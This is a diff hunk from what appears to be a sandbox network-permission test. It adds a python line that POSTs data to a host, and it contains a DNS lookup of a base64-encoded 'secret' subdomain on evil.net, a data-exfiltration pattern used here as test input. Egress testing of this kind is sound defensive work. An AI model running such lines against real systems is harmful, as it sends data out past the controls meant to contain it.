@@ -141,6 +141,7 @@ await attempt(
   'bash',
   `python3 -m pip download --no-deps --disable-pip-version-check -q --retries 0 -i ${other}simple/ -d out tiny-feed`,
 )
+await attempt('writing', 'python', `import urllib.request as u\nu.urlopen("http://${host}/", data=b"x")`)
 await attempt('nothing granted', 'bash', `curl -s http://${host}/`, [])
 await attempt('name asked', 'python', `import socket\nsocket.gethostbyname("c2VjcmV0.evil.net")`)
 await attempt(
